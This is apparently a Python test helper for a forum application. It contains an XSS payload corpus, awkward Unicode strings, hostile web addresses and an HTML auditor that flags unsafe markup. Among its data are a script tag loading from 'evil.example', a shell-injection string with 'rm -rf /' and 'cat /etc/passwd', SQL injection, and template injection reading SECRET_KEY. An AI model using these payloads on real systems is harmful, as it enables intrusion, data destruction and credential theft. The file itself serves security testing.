"""Hostile and awkward input for the suites that push it through every writable field, and a
check that a page carries no markup a browser would run.

The XSS corpus follows the classic cheat sheets (OWASP, PortSwigger, html5sec.org): raw tags and
event handlers, broken-out attributes, script URLs in every spelling, mutation-XSS tricks that
rely on parser differences, and Markdown's own ways of making links and images.
"""
from __future__ import annotations

import re
from html.parser import HTMLParser

XSS_VECTORS = [
    # Raw tags and event handlers
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script>alert(String.fromCharCode(88,83,83))</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"x\" onerror=\"alert(1)\">",
    "<IMG SRC=\"javascript:alert(1);\">",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<body onload=alert(1)>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"javascript:alert(1)\"></object>",
    "<embed src=\"javascript:alert(1)\">",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    "<div style=\"width:expression(alert(1))\">x</div>",
    "<a href=\"javascript:alert(1)\">click</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">click</a>",
    "<a href=\"&#106;avascript:alert(1)\">click</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">click</a>",
    "<a href=\"javascript&colon;alert(1)\">click</a>",
    "<a href=\" javascript:alert(1)\">click</a>",
    "<a href=\"vbscript:msgbox(1)\">click</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">click</a>",
    "<form action=\"javascript:alert(1)\"><button>go</button></form>",
    "<button formaction=\"javascript:alert(1)\">go</button>",
    "<base href=\"javascript:alert(1)//\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<link rel=stylesheet href=\"javascript:alert(1)\">",
    "<style>@import 'javascript:alert(1)';</style>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>script>alert(1)<</script>/script>",
    "<img src=`x`onerror=alert(1)>",
    "<img/src/onerror=alert(1)>",
    "<svg/onload=alert(1)//",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    "<![CDATA[<script>alert(1)</script>]]>",
    # Breaking out of an attribute or a script context
    "\"><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>",
    "\" onmouseover=\"alert(1)",
    "' onfocus='alert(1)' autofocus='",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "javascript:alert(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    # Markdown's own links and images
    "[click](javascript:alert(1))",
    "[click](JAVASCRIPT:alert(1))",
    "[click](javascript&#58;alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](javascript:alert(1))",
    "![x](x\" onerror=\"alert(1))",
    "[x](https://example.org \"title\\\" onmouseover=\\\"alert(1)\")",
    "<javascript:alert(1)>",
    "[a][ref]\n\n[ref]: javascript:alert(1)",
    "[x](https://example.org/\" onclick=\"alert(1))",
]

AWKWARD_STRINGS = [
    "zero\u200bwidth\u200cjoin\u200dnon",          # zero-width space, non-joiner, joiner
    "\ufeffbyte order mark",
    "right\u202eto-left override \u202dthen back",
    "\u05e9\u05dc\u05d5\u05dd mixed \u0645\u0631\u062d\u0628\u0627",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324alg\u0327o",  # combining
    "family \U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466 flag \U0001f1fa\U0001f1e6"
    " thumbs \U0001f44d\U0001f3fd",
    "{{7*7}} {% raw %} ${7*7} #{7*7} <%= 7*7 %> {{config.SECRET_KEY}}",
    "'; DROP TABLE comments; -- \" OR 1=1 --",
    "$(rm -rf /) `id` ; ls | cat /etc/passwd && echo %s%n%x",
    "back\\slash \\\\ and \\n not a newline",
    "line\u2028separator and\u2029paragraph",
    "tab\tinside",
    "x" * 300,
]

# Refused at the door: what no field may hold (see forum.web.input_guard).
CONTROL_STRINGS = ["nul\x00inside", "bell\x07and escape\x1b[31m", "delete\x7f"]

_SCRIPT_SCHEMES = re.compile(r"^(javascript|vbscript|data|livescript):", re.IGNORECASE)
_URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "background",
                   "poster", "data", "codebase", "srcdoc"}
_NEVER_IN_A_PAGE = {"iframe", "object", "embed", "base", "svg", "math", "applet", "frame",
                    "frameset", "style", "link"}
# Forum's own scripts: files under /static/ of this site (a script of anyone's making could only
# come from somewhere else, or be inline).
_OWN_SCRIPT = re.compile(r"^/static/[\w./-]+\.js$")


class _Auditor(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.in_head = False

    def handle_starttag(self, tag: str, attrs) -> None:
        if tag == "head":
            self.in_head = True
        if tag in _NEVER_IN_A_PAGE and not (tag == "link" and self.in_head):
            self.problems.append(f"<{tag}> element")
        if tag == "script" and not _OWN_SCRIPT.match(dict(attrs).get("src") or ""):
            self.problems.append(f"<script {attrs}>")
        if tag == "meta" and (dict(attrs).get("http-equiv") or "").lower() == "refresh":
            self.problems.append("<meta http-equiv=refresh>")
        for name, value in attrs:
            if name.startswith("on"):
                self.problems.append(f"<{tag} {name}={value!r}>")
            if name in _URL_ATTRIBUTES and value is not None:
                # Browsers drop whitespace and control characters inside a scheme.
                squeezed = re.sub(r"[\x00-\x20]", "", value)
                if _SCRIPT_SCHEMES.match(squeezed):
                    self.problems.append(f"<{tag} {name}={value!r}>")

    def handle_endtag(self, tag: str) -> None:
        if tag == "head":
            self.in_head = False


def unsafe_markup(page: str) -> list[str]:
    """Everything in an HTML page a browser could run: event handler attributes, script URLs,
    scripts other than Forum's own, frames, plugins, inline SVG/MathML, styles, <base>, refresh.
    Forum's templates use none of them, so any found came from someone's input."""
    auditor = _Auditor()
    auditor.feed(page)
    auditor.close()
    return auditor.problems


def packed(values: list[str], max_length: int, separator: str = " ") -> list[str]:
    """The values joined into as few strings as fit `max_length` each (single-line fields)."""
    chunks: list[str] = []
    current = ""
    for value in values:
        value = value[:max_length]
        candidate = f"{current}{separator}{value}" if current else value
        if len(candidate) <= max_length:
            current = candidate
        else:
            chunks.append(current)
            current = value
    if current:
        chunks.append(current)
    return chunks


# Addresses a website field accepts (http or https with a host) that still try to break out.
HOSTILE_WEB_ADDRESSES = [
    "https://example.org/\"><script>alert(1)</script>",
    "https://example.org/?q=<img src=x onerror=alert(1)>",
    "http://x\" onmouseover=\"alert(1)",
    "https://example.org/#javascript:alert(1)",
    "https://user:pa$$@example.org:8443/p?a=1&b=<b>",
    "https://\u0435xample.org/",  # a Cyrillic е: shown as typed, never "fixed"
]
